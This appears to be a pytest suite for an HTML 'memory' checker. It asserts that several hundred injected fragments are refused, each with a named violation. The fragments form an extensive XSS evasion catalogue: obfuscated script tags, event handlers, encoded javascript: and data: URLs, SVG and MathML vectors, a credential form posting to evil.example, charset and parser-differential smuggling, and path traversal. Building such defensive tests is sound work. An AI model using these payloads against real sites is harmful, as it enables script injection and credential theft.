"""Hostile input: every file here must be refused, with a violation naming the problem.

The inputs are generated from one valid memory by inserting a single hostile fragment
into its article or its head (or, for the few cases about the document's own skeleton,
by editing the file around the article). A memory is published as a static site, so
anything a browser would execute, load or navigate to from the raw bytes has to be
refused by the checker, whatever spelling it hides behind.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from returns.result import Failure, Success

from memhtml.format import (
    NewMemoryInput,
    check_memory,
    parse_memory,
    render_template,
    serialize_memory,
)

BASE = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>The session cache TTL is ten minutes</title>
<meta name="memhtml-type" content="semantic">
<meta name="memhtml-status" content="active">
<meta name="memhtml-created" content="2026-05-01T09:00:00Z">
<meta name="memhtml-updated" content="2026-05-02T09:00:00Z">
<link rel="memhtml-relates-to" href="/areas/cache/overview.html">
@@HEAD@@
</head>
<body>
<article>
<p><mark>The session cache TTL is ten minutes.</mark> Set in the gateway config.</p>
@@ARTICLE@@
<p>Owned by the platform team.</p>
</article>
</body>
</html>
"""


def _fill(head: str = "", article: str = "") -> str:
    return BASE.replace("@@HEAD@@", head).replace("@@ARTICLE@@", article)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input and a substring some violation must contain."""

    id: str
    text: str
    expect: str


CASES: list[Hostile] = []


def _add(group: str, text: str, expect: str) -> None:
    CASES.append(Hostile(f"{group}-{sum(c.id.startswith(group + '-') for c in CASES):03d}",
                         text, expect))


def in_article(group: str, fragment: str, expect: str) -> None:
    _add(group, _fill(article=fragment), expect)


def in_head(group: str, fragment: str, expect: str) -> None:
    _add(group, _fill(head=fragment), expect)


# --- script, in many spellings and places -------------------------------------------

SCRIPT = "forbidden element: <script>"
for spelling in (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    "<script nomodule defer async>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script/src="//evil.example/x.js"></script>',
    "<script\n>alert(1)</script>",
    "<script >alert(1)</script >",
    "<script>alert(1)",
    "<script><!--\nalert(1)\n--></script>",
    "<script>document.write('<p>x</p>')</script>",
):
    in_article("script", spelling, SCRIPT)
for context in (
    "<p>Some text <script>alert(1)</script> more text.</p>",
    "<table><tr><td>x</td></tr><script>alert(1)</script></table>",
    "<table><caption>c</caption><tbody><tr><td><script>alert(1)</script></td></tr></tbody></table>",
    "<ul><li>item <script>alert(1)</script></li></ul>",
    "<dl><dt>k</dt><dd><script>alert(1)</script></dd></dl>",
    "<figure><pre><code><script>alert(1)</script></code></pre></figure>",
    "<details><summary>s</summary><script>alert(1)</script></details>",
    "<aside><script>alert(1)</script></aside>",
    "<section><p>x</p><script>alert(1)</script></section>",
    "<address><script>alert(1)</script></address>",
    "<p><q><script>alert(1)</script></q></p>",
    "<svg><script>alert(1)</script></svg>",
):
    in_article("script-in", context, SCRIPT)
in_head("script-head", "<script>alert(1)</script>", SCRIPT)
in_head("script-head", '<script src="/analytics.js"></script>', SCRIPT)
_add("script-before-doctype", "<script>alert(1)</script>" + _fill(), SCRIPT)
_add("script-after-body", _fill().replace("</body>", "</body><script>alert(1)</script>"), SCRIPT)

# --- embedded browsing contexts and foreign resources --------------------------------

for fragment, expect in (
    ('<iframe src="https://evil.example/"></iframe>', "forbidden element: <iframe>"),
    ('<IFRAME SRC="https://evil.example/"></IFRAME>', "forbidden element: <iframe>"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
     "forbidden attribute: srcdoc"),
    ('<iframe srcdoc="<p>x</p>"></iframe>', "forbidden element: <iframe>"),
    ('<iframe src="javascript:alert(1)"></iframe>', "forbidden element: <iframe>"),
    # A browser drops a <frameset> met inside the body, so the two parsers disagree.
    ('<frameset onload="alert(1)"><frame src="x.html"></frameset>', "parity: "),
    ('<object data="https://evil.example/x.swf"></object>', "forbidden element: <object>"),
    ('<object data="javascript:alert(1)"></object>', "unsafe URL: javascript:"),
    ('<embed src="https://evil.example/x.swf">', "forbidden element: <embed>"),
    ('<EMBED SRC="javascript:alert(1)">', "forbidden element: <embed>"),
    ('<applet code="Evil.class"></applet>', "forbidden element: <applet>"),
    ('<portal src="https://evil.example/"></portal>', "forbidden element: <portal>"),
    ("<fencedframe></fencedframe>", "forbidden element: <fencedframe>"),
    ('<img src="https://tracker.example/p.gif">', "forbidden element: <img>"),
    ('<img src="x" onerror="alert(1)">', "forbidden element: <img>"),
    ('<img src="x" onerror="alert(1)">', "event handler: onerror on <img>"),
    ("<IMG SRC=javascript:alert(1)>", "forbidden element: <img>"),
    ("<img/src=x/onerror=alert(1)>", "forbidden element: <img>"),
    ('<img srcset="https://evil.example/a.png 1x">', "forbidden attribute: srcset"),
    ('<picture><source srcset="https://evil.example/a.png"></picture>',
     "forbidden element: <picture>"),
    ('<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
     "forbidden element: <video>"),
    ('<audio src="https://evil.example/a.mp3" autoplay></audio>', "forbidden element: <audio>"),
    ('<video><track src="https://evil.example/t.vtt"></video>', "forbidden element: <track>"),
    ("<canvas></canvas>", "forbidden element: <canvas>"),
    # The HTML5 tree builder renames <image> to <img>, and it is judged as one.
    ('<image src="x" onerror="alert(1)">', "forbidden element: <img>"),
):
    in_article("embed", fragment, expect)

# --- event handlers, on every kind of element ----------------------------------------

HANDLER_CONTEXTS: dict[str, str] = {
    "p": "<p {a}>x</p>",
    "a": '<p><a href="/areas/x.html" {a}>x</a></p>',
    "time": '<p><time datetime="2026-01-01" {a}>x</time></p>',
    "dl": "<dl {a}><dt>k</dt><dd>v</dd></dl>",
    "dt": "<dl><dt {a}>k</dt><dd>v</dd></dl>",
    "dd": "<dl><dt>k</dt><dd {a}>v</dd></dl>",
    "data": '<p><data value="1" {a}>one</data></p>',
    "cite": "<p><cite {a}>x</cite></p>",
    "q": "<p><q {a}>x</q></p>",
    "dfn": "<p><dfn {a}>x</dfn></p>",
    "figure": "<figure {a}><pre>x</pre></figure>",
    "figcaption": "<figure><pre>x</pre><figcaption {a}>c</figcaption></figure>",
    "details": "<details {a}><summary>s</summary>b</details>",
    "summary": "<details><summary {a}>s</summary>b</details>",
    "aside": "<aside {a}>x</aside>",
    "section": "<section {a}><p>x</p></section>",
    "abbr": '<p><abbr title="t" {a}>x</abbr></p>',
    "pre": "<pre {a}>x</pre>",
    "code": "<p><code {a}>x</code></p>",
    "kbd": "<p><kbd {a}>x</kbd></p>",
    "samp": "<p><samp {a}>x</samp></p>",
    "var": "<p><var {a}>x</var></p>",
    "table": "<table {a}><tr><td>x</td></tr></table>",
    "caption": "<table><caption {a}>c</caption><tr><td>x</td></tr></table>",
    "tr": "<table><tr {a}><td>x</td></tr></table>",
    "th": "<table><tr><th {a}>x</th></tr></table>",
    "td": "<table><tr><td {a}>x</td></tr></table>",
    "thead": "<table><thead {a}><tr><th>x</th></tr></thead></table>",
    "tbody": "<table><tbody {a}><tr><td>x</td></tr></tbody></table>",
    "ul": "<ul {a}><li>x</li></ul>",
    "ol": "<ol {a}><li>x</li></ol>",
    "li": "<ul><li {a}>x</li></ul>",
    "strong": "<p><strong {a}>x</strong></p>",
    "em": "<p><em {a}>x</em></p>",
    "address": "<address {a}>x</address>",
    "div": "<figure><div {a}>x</div></figure>",
    "span": "<figure><pre><span {a}>x</span></pre></figure>",
}
HANDLERS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onpointerdown", "onkeydown",
    "onanimationstart", "ontoggle", "onwheel", "oncopy", "onauxclick", "onbeforeinput",
)
for i, (tag, template) in enumerate(HANDLER_CONTEXTS.items()):
    handler = HANDLERS[i % len(HANDLERS)]
    in_article("handler", template.format(a=f'{handler}="alert(1)"'),
               f"event handler: {handler} on <{tag}>")
for spelling in ("OnClIcK", "ONCLICK", "onClick"):
    in_article("handler-case", f'<p {spelling}="alert(1)">x</p>', "event handler: onclick on <p>")
for fragment, expect in (
    ("<p onclick=alert(1)>unquoted</p>", "event handler: onclick on <p>"),
    ("<p onclick>no value</p>", "event handler: onclick on <p>"),
    ("<p\nonclick='alert(1)'>newline before</p>", "event handler: onclick on <p>"),
    ("<p/onclick=alert(1)>slash before</p>", "event handler: onclick on <p>"),
    ('<p><a href="/areas/x.html"onclick="alert(1)">glued</a></p>', "event handler: onclick on <a>"),
    ('<p onclick  =  "alert(1)">spaced</p>', "event handler: onclick on <p>"),
    ('<p><em onfocus="alert(1)" autofocus tabindex="1">x</em></p>',
     "event handler: onfocus on <em>"),
    ('<p><em onfocus="alert(1)" autofocus tabindex="1">x</em></p>',
     "forbidden attribute: autofocus on <em>"),
    ('<details open ontoggle="alert(1)"><summary>s</summary>b</details>',
     "event handler: ontoggle on <details>"),
    ('<p onmouseover="alert(1)" onmouseout="alert(2)">two handlers</p>',
     "event handler: onmouseout on <p>"),
    ('<p oncontentvisibilityautostatechange="alert(1)">future handler</p>',
     "event handler: oncontentvisibilityautostatechange on <p>"),
):
    in_article("handler-form", fragment, expect)
_add("handler-article", _fill().replace("<article>", '<article onclick="alert(1)">'),
     "event handler: onclick on <article>")
_add("handler-body", _fill().replace("<body>", '<body onload="alert(1)">'),
     "event handler: onload on <body>")
_add("handler-html", _fill().replace('<html lang="en">', '<html lang="en" onmouseover="alert(1)">'),
     "event handler: onmouseover on <html>")
_add("handler-title", _fill().replace("<title>", '<title onclick="alert(1)">'),
     "event handler: onclick on <title>")
in_head("handler-link", '<link rel="memhtml-supports" href="/areas/x.html" onload="alert(1)">',
        "event handler: onload on <link>")
in_head("handler-meta", '<meta name="memhtml-tag" content="x" onerror="alert(1)">',
        "event handler: onerror on <meta>")

# --- dangerous URL schemes, spelled every way a browser still reads them -------------

JS_SPELLINGS = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    "   javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#X6a;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    " \x0bjavascript:alert(1)",
)
for spelling in JS_SPELLINGS:
    in_article("js-a", f'<p><a href="{spelling}">x</a></p>',
               "unsafe URL: javascript: in href of <a>")
for spelling in JS_SPELLINGS[::2]:
    in_article("js-q", f'<p><q cite="{spelling}">x</q></p>',
               "unsafe URL: javascript: in cite of <q>")
for spelling in JS_SPELLINGS[1::2]:
    in_head("js-link", f'<link rel="memhtml-supports" href="{spelling}">',
            "unsafe URL: javascript: in href of <link>")
for url, scheme in (
    ("vbscript:msgbox(1)", "vbscript"),
    ("VBScript:MsgBox(1)", "vbscript"),
    ("data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;", "data"),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data"),
    ("DATA:image/svg+xml,&lt;svg onload=alert(1)&gt;", "data"),
    ("  data:text/plain,hi", "data"),
    ("file:///etc/passwd", "file"),
    ("blob:https://evil.example/1234", "blob"),
    ("filesystem:https://evil.example/temporary/x", "filesystem"),
):
    in_article("scheme-a", f'<p><a href="{url}">x</a></p>', f"unsafe URL: {scheme}: in href of <a>")
    in_article("scheme-q", f'<p><q cite="{url}">x</q></p>', f"unsafe URL: {scheme}: in cite of <q>")
    in_head("scheme-link", f'<link rel="memhtml-relates-to" href="{url}">',
            f"unsafe URL: {scheme}: in href of <link>")
# An encoded NUL decodes to U+FFFD, which no browser strips: not a scheme, but not a
# reference the format admits either. A raw NUL refuses the whole file.
in_article("nul", '<p><a href="java&#0;script:alert(1)">x</a></p>', "reference: href=")
in_article("nul", '<p><a href="java\x00script:alert(1)">x</a></p>', "NUL character")

# --- refresh, base, forms -------------------------------------------------------------

HTTP_EQUIV = "forbidden attribute: http-equiv"
in_head("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', HTTP_EQUIV)
in_head("refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', HTTP_EQUIV)
in_head("refresh", '<META HTTP-EQUIV="Refresh" CONTENT="5">', HTTP_EQUIV)
in_head("refresh", '<meta http-equiv="set-cookie" content="sid=1">', HTTP_EQUIV)
in_head("refresh", '<meta http-equiv="content-security-policy" content="default-src *">',
        HTTP_EQUIV)
in_article("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
           HTTP_EQUIV)
in_head("base", '<base href="https://evil.example/">', "forbidden element: <base>")
in_head("base", '<BASE HREF="//evil.example/">', "forbidden element: <base>")
in_head("base", '<base target="_blank">', "forbidden element: <base>")
in_article("base", '<base href="javascript:alert(1)//">', "forbidden element: <base>")
for fragment, expect in (
    ('<form action="https://evil.example/collect"><input name="pw"></form>',
     "forbidden element: <form>"),
    ('<form action="javascript:alert(1)"></form>', "forbidden attribute: action on <form>"),
    ('<input type="password" name="pw">', "forbidden element: <input>"),
    ('<input autofocus onfocus="alert(1)">', "event handler: onfocus on <input>"),
    ("<button>Click</button>", "forbidden element: <button>"),
    ('<button formaction="javascript:alert(1)">x</button>',
     "forbidden attribute: formaction on <button>"),
    ("<textarea>x</textarea>", "forbidden element: <textarea>"),
    ("<textarea></textarea><script>alert(1)</script>", SCRIPT),
    ("<select><option>a</option></select>", "forbidden element: <select>"),
    ("<select><option>a</option></select>", "forbidden element: <option>"),
    ("<keygen>", "forbidden element: <keygen>"),
    ('<isindex action="javascript:alert(1)">', "forbidden element: <isindex>"),
):
    in_article("form", fragment, expect)

# --- foreign content ------------------------------------------------------------------

SVG = "forbidden element: <svg>"
for fragment in (
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg onload="alert(1)"></svg>',
    '<SVG ONLOAD="alert(1)"></SVG>',
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=%22x%22/&gt;#x"/></svg>',
    "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    '<p>inline <svg width="10" height="10"><circle r="5"/></svg> icon</p>',
):
    in_article("svg", fragment, SVG)
in_article("svg", '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
           "forbidden attribute: xlink:href")
MATH = "forbidden element: <math>"
for fragment in (
    '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<MATH><mi>x</mi></MATH>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
):
    in_article("math", fragment, MATH)

# --- styles, classes, templates and legacy raw-text elements -------------------------

for fragment, expect in (
    ("<style>body { background: url(javascript:alert(1)) }</style>", "forbidden element: <style>"),
    ("<STYLE>@import 'https://evil.example/x.css';</STYLE>", "forbidden element: <style>"),
    ('<p style="background:url(https://tracker.example/p.gif)">x</p>',
     "forbidden attribute: style on <p>"),
    ('<p><em STYLE="position:fixed;inset:0">x</em></p>', "forbidden attribute: style on <em>"),
    ('<table style="display:none"><tr><td>x</td></tr></table>',
     "forbidden attribute: style on <table>"),
    ('<p class="warning">x</p>', "forbidden attribute: class on <p>"),
    ('<figure><pre><code class="language-js">x</code></pre></figure>',
     "forbidden attribute: class on <code>"),
    ('<p><em CLASS="y">x</em></p>', "forbidden attribute: class on <em>"),
    ("<template><script>alert(1)</script></template>", "forbidden element: <template>"),
    ("<template><p>hidden</p></template>", "forbidden element: <template>"),
    ("<noscript><p>x</p></noscript>", "forbidden element: <noscript>"),
    ('<noscript><img src="x" onerror="alert(1)"></noscript>', "forbidden element: <noscript>"),
    ("<xmp><script>alert(1)</script></xmp>", "forbidden element: <xmp>"),
    ("<plaintext><script>alert(1)</script>", "forbidden element: <plaintext>"),
    ("<listing>x</listing>", "forbidden element: <listing>"),
    ("<noembed>x</noembed>", "forbidden element: <noembed>"),
    ("<noframes>x</noframes>", "forbidden element: <noframes>"),
    ('<marquee onstart="alert(1)">x</marquee>', "forbidden element: <marquee>"),
):
    in_article("style", fragment, expect)
in_head("style-head", "<style>body{display:none}</style>", "forbidden element: <style>")
in_head("style-head", '<noscript><meta http-equiv="refresh" content="0"></noscript>',
        "forbidden element: <noscript>")

# --- attributes that load, navigate or restyle ---------------------------------------

ATTRIBUTE_CASES = (
    ("srcset", '<p><a href="/areas/x.html" srcset="a.png 1x">x</a></p>', "a"),
    ("src", '<p><q src="https://evil.example/x">x</q></p>', "q"),
    ("background", '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
     "table"),
    ("bgcolor", '<table><tr><td bgcolor="red">x</td></tr></table>', "td"),
    ("target", '<p><a href="https://example.com/" target="_blank">x</a></p>', "a"),
    ("download", '<p><a href="/areas/x.html" download>x</a></p>', "a"),
    ("ping", '<p><a href="https://example.com/" ping="https://evil.example/">x</a></p>', "a"),
    ("xmlns", '<p xmlns="http://www.w3.org/1999/xhtml">x</p>', "p"),
    ("xlink:href", '<p><a href="/areas/x.html" xlink:href="javascript:alert(1)">x</a></p>', "a"),
    ("xml:base", '<p><em xml:base="javascript:/">x</em></p>', "em"),
    ("contenteditable", "<p contenteditable>x</p>", "p"),
    ("autofocus", "<details autofocus><summary>s</summary></details>", "details"),
    ("popover", '<aside popover id="x">x</aside>', "aside"),
    ("popovertarget", '<p><a href="/areas/x.html" popovertarget="x">x</a></p>', "a"),
    ("is", '<p is="x-evil">x</p>', "p"),
    ("width", '<table width="100%"><tr><td>x</td></tr></table>', "table"),
    ("height", '<figure height="900"><pre>x</pre></figure>', "figure"),
    ("align", '<p align="center">x</p>', "p"),
    ("color", '<p><strong color="red">x</strong></p>', "strong"),
    ("face", '<p><em face="Comic Sans">x</em></p>', "em"),
    ("border", '<table border="1"><tr><td>x</td></tr></table>', "table"),
    ("valign", '<table><tr><td valign="top">x</td></tr></table>', "td"),
    ("formaction", '<p><a href="/areas/x.html" formaction="javascript:alert(1)">x</a></p>', "a"),
    ("action", '<section action="https://evil.example/"><p>x</p></section>', "section"),
)
for attr, fragment, tag in ATTRIBUTE_CASES:
    in_article("attribute", fragment, f"forbidden attribute: {attr} on <{tag}>")

# --- references that leave the repository or break on a move -------------------------

for href in (
    "//evil.example/x.html",
    "//evil.example",
    "../x.html",
    "/areas/../x.html",
    "/areas/./x.html",
    "./x.html",
    "x.html",
    "/areas//x.html",
    "/\\evil.example/x.html",
    "\\\\evil.example\\x.html",
    "https://example.com/x.html",
    "/areas/x.html?raw=1",
    "/areas/x.html#top",
    "",
):
    in_head("ref-link", f'<link rel="memhtml-relates-to" href="{href}">', "reference: link href")
for href in (
    "//evil.example/x",
    "//evil.example",
    "../x.html",
    "/areas/../x.html",
    "./x.html",
    "x.html",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "/areas//x.html",
):
    in_article("ref-a", f'<p><a href="{href}">x</a></p>', "reference: href=")
for cite in ("//evil.example/x", "../notes.txt", "notes.txt"):
    in_article("ref-q", f'<p><q cite="{cite}">x</q></p>', "reference: cite=")
for rel in ("stylesheet", "preload", "icon", "memhtml-inspired-by", "memhtml-supersedes stylesheet",
            "prefetch memhtml-supports", "import"):
    in_head("ref-rel", f'<link rel="{rel}" href="/areas/x.html">', "is not a memory edge")
in_head("ref-superseded", '<meta name="memhtml-superseded-by" content="//evil.example/x.html">',
        "reference: memhtml-superseded-by")

# --- markup a browser reads differently from the checker's parser --------------------
# An HTML5 tree builder puts anything after </html> into the body and merges the
# attributes of a stray <body> or <html> start tag onto the real element, so a
# handler hidden that way runs in every reader's browser.

_add("smuggle-after-html", _fill().replace("</html>", "</html><script>alert(1)</script>"),
     SCRIPT)
_add("smuggle-after-html", _fill() + '<p onclick="alert(1)">x</p>\n',
     "event handler: onclick on <p>")
_add("smuggle-after-html", _fill() + '<p><a href="javascript:alert(1)">x</a></p>\n',
     "unsafe URL: javascript: in href of <a>")
_add("smuggle-after-html", _fill() + '<img src="x" onerror="alert(1)">\n',
     "forbidden element: <img>")
_add("smuggle-after-html", _fill() + "<article><p><mark>A second claim.</mark></p></article>\n",
     "skeleton: 2 <article> elements")
in_article("smuggle-body", '<body onload="alert(1)">', "event handler: onload on <body>")
in_article("smuggle-html", '<html onmouseover="alert(1)">', "event handler: onmouseover on <html>")


# --- where libxml2 and a browser part: depth, size, stray skeleton tags --------------
# Each of these passed the check when it read libxml2's tree alone. The browser's
# tree is now judged too, and the two must agree.

DEPTH = "depth: elements nest"
for tag in ("div", "section", "b", "em", "ul", "aside", "details", "span"):
    for depth in (70, 255, 260, 300):
        in_article("depth", f"<{tag}>" * depth + "<script>alert(1)</script>", DEPTH)
# A browser closes a table at the next <table> start tag, where libxml2 nests it.
in_article("depth-table", "<table>" * 300 + "<script>alert(1)</script>", "parity: ")
in_article("depth-hides", "<section>" * 300 + "<script>alert(1)</script>", SCRIPT)
in_article("depth-hides", "<div>" * 260 + '<p><a href="javascript:alert(1)">x</a></p>',
           "unsafe URL: javascript: in href of <a>")
in_article("depth-hides", "<section>" * 300 + "<p>text libxml2 drops</p>", "parity: ")

for tag, handler in (("body", "onload"), ("html", "onmouseover"), ("body", "onpageshow")):
    # An opened quote that never closes runs to the end of the file, and a browser
    # drops a tag cut off by the end: those spellings are harmless, and not here.
    for quote in ('x"', "x'", '"', "'", 'x="a"b', "x=a'b"):
        in_article("stray-quote", f"<{tag} {quote} {handler}=alert(1)>",
                   f"event handler: {handler} on <{tag}>")
        _add("stray-quote-after-html",
             _fill().replace("</html>", f"</html><{tag} {quote} {handler}=alert(1)>"),
             f"event handler: {handler} on <{tag}>")
_NO_BODY = _fill().replace("<body>\n", "").replace("</body>\n", "")
for handler in ("onload", "onfocus", "onpagehide"):
    _add("no-literal-body",
         _NO_BODY.replace("<p>Owned", f'<body {handler}="alert(1)"><p>Owned'),
         f"event handler: {handler} on <body>")
in_article("stray-body-harmless", '<body lang="fr">', "parity: a browser's tree has lang=")

SIZE = "size: the file is"
for size in (1_048_600, 10_500_000):
    in_article("oversized-text", "<p>" + "x" * size + "</p><script>alert(1)</script>", SIZE)
    in_article("oversized-attribute",
               '<p title="' + "x" * size + '">y</p><script>alert(1)</script>', SIZE)
    in_head("oversized-meta", '<meta name="memhtml-tag" content="' + "t" * size + '">', SIZE)
in_article("too-many-tags", "<p>" + "<em>x</em>" * 1100 + "</p>", "size: the file has")
in_article("reopened-inline", "<p>" + "".join(f'<em title="{i}">' for i in range(60)) + "</p>"
           + "<p>x</p>" * 100, "size: a browser builds more than")

# --- the only charset is UTF-8 ---------------------------------------------------------

_CHARSET = '<meta charset="utf-8">'
for label in ("iso-2022-jp", "utf-7", "utf-16", "utf-16le", "utf-16be", "windows-1252",
              "x-user-defined", "shift_jis", "gb18030", "iso-2022-kr", "hz-gb-2312", "utf8",
              "unicode-1-1-utf-8", ""):
    _add("charset", _fill().replace(_CHARSET, f'<meta charset="{label}">'),
         f'charset: <meta charset="{label}"> declares another encoding')
_add("charset-missing", _fill().replace(_CHARSET, ""), 'charset: no <meta charset="utf-8">')
in_head("charset-second", '<meta charset="utf-8">', "charset: 2 <meta charset> elements")
in_head("charset-second", '<meta charset="iso-2022-jp">', "charset: 2 <meta charset> elements")
in_article("charset-in-body", '<meta charset="iso-2022-jp">', "charset: 2 <meta charset>")
for decoy in ('<title><meta charset="iso-2022-jp"></title>', '<!-- x --!><meta charset="utf-7">',
              '<meta content="text/html; charset=iso-2022-jp">',
              '<meta http-equiv="content-type" content="text/html;charset=shift_jis">'):
    _add("charset-prescan", _fill().replace("<!doctype html>\n", "<!doctype html>\n" + decoy),
         "charset: ")
_add("charset-late", _fill().replace(_CHARSET + "\n", "").replace(
    "</title>\n", "</title>\n<!--" + "-" * 1100 + "-->\n" + _CHARSET + "\n"),
    "charset: the <meta charset=\"utf-8\"> must end within the first 1024 bytes")
for payload in ("\x1b$B", "\x1b(B", "\x1b$)C", "\x1b",
                "<p title=\"\x1b$B\">\x1b(B onclick=alert(1)</p>"):
    in_article("esc", f"<p>{payload}</p>", "charset: an ESC (0x1B) character")

# --- references and stamps as a browser reads them ------------------------------------

for href in ("/areas/%2e%2e/x.html", "/areas/%2E%2E/x.html", "/areas/%2e%2E/x.html",
             "/areas/.%2e/x.html", "/areas/%2e./x.html", "/areas/%2e/x.html",
             "/areas/.%2E/x.html", "/areas%2f..%2fx.html", "/%2f/evil.example/x.html",
             "/areas/%5c..%5cx.html", "/areas/x%00.html", "/areas/x%0a.html",
             "/areas\\x.html", "/areas/x&#1;.html", "/areas/x&#127;.html", "/areas/x&#x81;.html",
             "/areas/&lt;x&gt;.html", "/areas/&quot;x.html", "/areas/x\u00a0y.html"):
    in_head("ref-encoded-link", f'<link rel="memhtml-relates-to" href="{href}">',
            "reference: link href")
    in_article("ref-encoded-a", f'<p><a href="{href}">x</a></p>', "reference: href=")
in_head("ref-encoded-superseded",
        '<meta name="memhtml-superseded-by" content="/areas/%2e%2e/x.html">',
        "reference: memhtml-superseded-by")
for name, stamp in (("memhtml-created", "2026-05-01T09:00:00Z"),
                    ("memhtml-updated", "2026-05-02T09:00:00Z")):
    _add("stamp-date", _fill().replace(stamp, stamp[:10]),
         f"metadata: {name} \"{stamp[:10]}\" is a date")

# --- what must still pass --------------------------------------------------------------

PASSES: list[tuple[str, str]] = [
    ("a title that mentions <body>",
     _fill().replace("<title>The session", "<title>About &lt;body&gt; and the session")),
    ("a title holding a raw <body> tag as text",
     _fill().replace("<title>The session", "<title>About <body> and the session")),
    ("a comment holding a script",
     _fill(article="<!-- <script>alert(1)</script> <p onclick=x> -->")),
    ("escaped markup", _fill(article="<p>&lt;body onload=alert(1)&gt;</p>")),
    ("a table without a tbody", _fill(article="<table><tr><td>x</td></tr></table>")),
    ("an explicit tbody", _fill(article="<table><tbody><tr><td>x</td></tr></tbody></table>")),
    ("percent-encoded letters in a path",
     _fill(head='<link rel="memhtml-supports" href="/notes/caf%C3%A9.html">')),
    ("a dot inside a segment", _fill(head='<link rel="memhtml-supports" href="/a/v1.%2e.html">')),
    ("nesting at the bound", _fill(article="<section>" * 56 + "<p>x</p>" + "</section>" * 56)),
    ("an upper-case charset", _fill().replace(_CHARSET, '<META CHARSET="UTF-8">')),
    ("a byte-order mark", "\ufeff" + _fill()),
    ("a bare date where the spec allows one",
     _fill(head='<meta name="memhtml-valid-until" content="2026-12-31">')),
]


@pytest.mark.parametrize(("name", "text"), PASSES, ids=[name for name, _ in PASSES])
def test_what_a_browser_reads_the_same_way_still_passes(name: str, text: str) -> None:
    assert check_memory(text).violations == (), name
    assert isinstance(parse_memory(text), Success)


def test_the_base_file_is_a_valid_memory() -> None:
    assert check_memory(_fill()).violations == ()
    assert isinstance(parse_memory(_fill()), Success)


def test_there_are_enough_cases_and_ids_are_unique() -> None:
    assert len(CASES) >= 400
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_input_is_refused_with_a_named_violation(case: Hostile) -> None:
    violations = check_memory(case.text).violations
    assert any(case.expect in v for v in violations), (
        f"no violation mentions {case.expect!r}; got {violations!r}"
    )
    match parse_memory(case.text, "hostile.html"):
        case Failure(err):
            assert err.violations == violations
        case Success(doc):
            pytest.fail(f"accepted as a memory: {doc.article.html!r}")
        case _:
            raise AssertionError("unreachable")


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_input_never_raises(case: Hostile) -> None:
    # A fragment cut anywhere, or doubled, must still come back as a result.
    for text in (case.text, case.text[: len(case.text) // 2], case.text * 2, case.text[::-1]):
        check_memory(text)
        parse_memory(text)


def test_a_terminal_log_keeps_its_escapes_as_references() -> None:
    # ESC is refused as a raw byte, so the writer spells it as a reference: a log pasted
    # with its colour codes is still a memory, and it reads back the same.
    text = render_template(NewMemoryInput(
        title="Build fails \x1b[1mloudly\x1b[0m", claim="The build fails on a cold cache.",
        memory_type="error_pattern", at="2026-05-01T09:00:00Z",
        body=("```\n\x1b[31mERROR\x1b[0m cache miss\n```",), tags=("tty\x1b",),
        detect=lambda _code: None))
    assert "\x1b" not in text
    assert check_memory(text).violations == ()
    doc = parse_memory(text).unwrap()
    assert "\x1b[31mERROR" in doc.article.body_text
    assert parse_memory(serialize_memory(doc)) == Success(doc)
